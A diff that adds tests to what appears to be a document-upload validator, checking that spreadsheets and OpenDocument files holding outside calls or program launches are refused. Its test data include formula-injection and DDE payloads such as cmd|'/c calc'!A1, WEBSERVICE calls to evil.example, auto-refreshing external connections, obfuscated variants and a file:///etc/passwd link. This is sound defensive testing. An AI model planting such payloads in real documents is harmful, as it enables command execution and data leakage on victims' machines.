@@ -106,6 +106,56 @@ def test_office_documents_that_hide_something(parts, code):
     assert error.messages[0].endswith(AS_PDF)
 
 
+def sheet(formula: str) -> dict[str, str]:
+    return {"xl/worksheets/sheet1.xml": f'<c r="A1"><f t="x">{formula}</f><v>0</v></c>'}
+
+
+ASKING = {
+    "a table asked for every minute": ({"xl/connections.xml": (
+        '<connection interval="1"><webPr url="http://evil.example/a"/></connection>')}, "outside"),
+    "a query that asks when it opens": (
+        {"xl/queryTables/queryTable1.xml": '<queryTable refreshOnLoad="1"/>'}, "outside"),
+    "a pivot table of another base": ({"xl/pivotCache/pivotCacheDefinition1.xml": (
+        '<x refreshOnLoad="true"><cacheSource type="external" connectionId="1"/></x>')}, "outside"),
+    "a formula that asks a site": (sheet('_xlfn.WEBSERVICE("http://evil.example")'), "outside"),
+    "a picture of a site": (sheet("_xlfn.IMAGE(A2)"), "outside"),
+    "a formula that hides its letters": (sheet("&#87;EBSERVICE(A2)"), "outside"),
+    "a formula that calls a program": (sheet("cmd|'/c calc'!A1"), "program"),
+    "a name that calls a program": (
+        {"xl/workbook2.xml": "", "xl/worksheets/sheet2.xml": (
+            '<definedName name="a">cmd|&apos;/c calc&apos;!A1</definedName>')}, "program"),
+    "a formula cut by a note": (sheet("WEB<!-- -->SERVICE(A2)"), "content"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("parts", "code"), ASKING.values(), ids=ASKING)
+def test_workbooks_that_ask_elsewhere(parts, code):
+    content = office("xl/workbook.xml")
+    assert refusal("a.xlsx", with_parts(content, parts)).code == code
+
+
+def test_formulas_that_ask_nobody():
+    kept = [
+        'IF(A1="a|b","WEBSERVICE(",1)', "'Caf | Agglo'!A1", "SUM(A1:A9)", "MYIMAGE(A1)",
+        "SUM(T[a|b])",
+        'HYPERLINK("https://caf.example")',
+    ]  # fmt: skip
+    for formula in kept:
+        content = with_parts(office("xl/workbook.xml"), sheet(formula))
+        assert refusal("a.xlsx", content) is None, formula
+    pivot = '<x refreshOnLoad="1"><cacheSource type="worksheet"/></x>'
+    parts = {"xl/pivotCache/pivotCacheDefinition1.xml": pivot, "xl/tables/table1.xml": "<table/>"}
+    assert refusal("a.xlsx", with_parts(office("xl/workbook.xml"), parts)) is None
+
+
+@pytest.mark.parametrize("piece", ["<f ", "<f>", '<f a="', '<x formula="', "<definedName "])
+def test_a_sheet_that_says_nothing_is_looked_through_once(piece):
+    since = time.process_time()
+    parts = {"xl/worksheets/sheet1.xml": piece * 200_000}
+    refusal("a.xlsx", with_parts(office("xl/workbook.xml"), parts))
+    assert time.process_time() - since < 5
+
+
 @pytest.mark.parametrize("told", ["DD<!-- -->EAUTO c:", "<![CDATA[DDE]]>AUTO c:", "DD<?x?>E c:"])
 def test_commands_that_are_cut_by_a_note(told):
     part = f'<w:p><w:fldChar w:fldCharType="begin"/><w:instrText>{told}</w:instrText></w:p>'
@@ -163,6 +213,13 @@ OPEN_DOCUMENTS = {
         odt(f'<x {ODF}><text:section-source xlink:href="file:///etc/passwd"/></x>'), "outside"),
     "an address that hides its letters": (
         odt(f'<x {ODF}><draw:image a=">" xlink:href="&#104;ttp://evil.example"/></x>'), "outside"),
+    "a formula that calls a program": (
+        odt("<x table:formula='of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)'/>"),
+        "program"),
+    "a name that calls a program": (
+        odt("<table:named-expression table:expression=\"of:=cmd|'/c calc'!A1\"/>"), "program"),
+    "a formula that asks a site": (
+        odt('<x table:formula="of:=WEBSERVICE(&quot;http://evil.example&quot;)"/>'), "outside"),
     "another writing": (odt("<x/>", styles_xml="<x/>".encode("utf-16")), "content"),
     "another writing, told": (odt('<?xml version="1.0" encoding="utf-7"?><x/>'), "content"),
     "an entity": (odt('<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "content"),
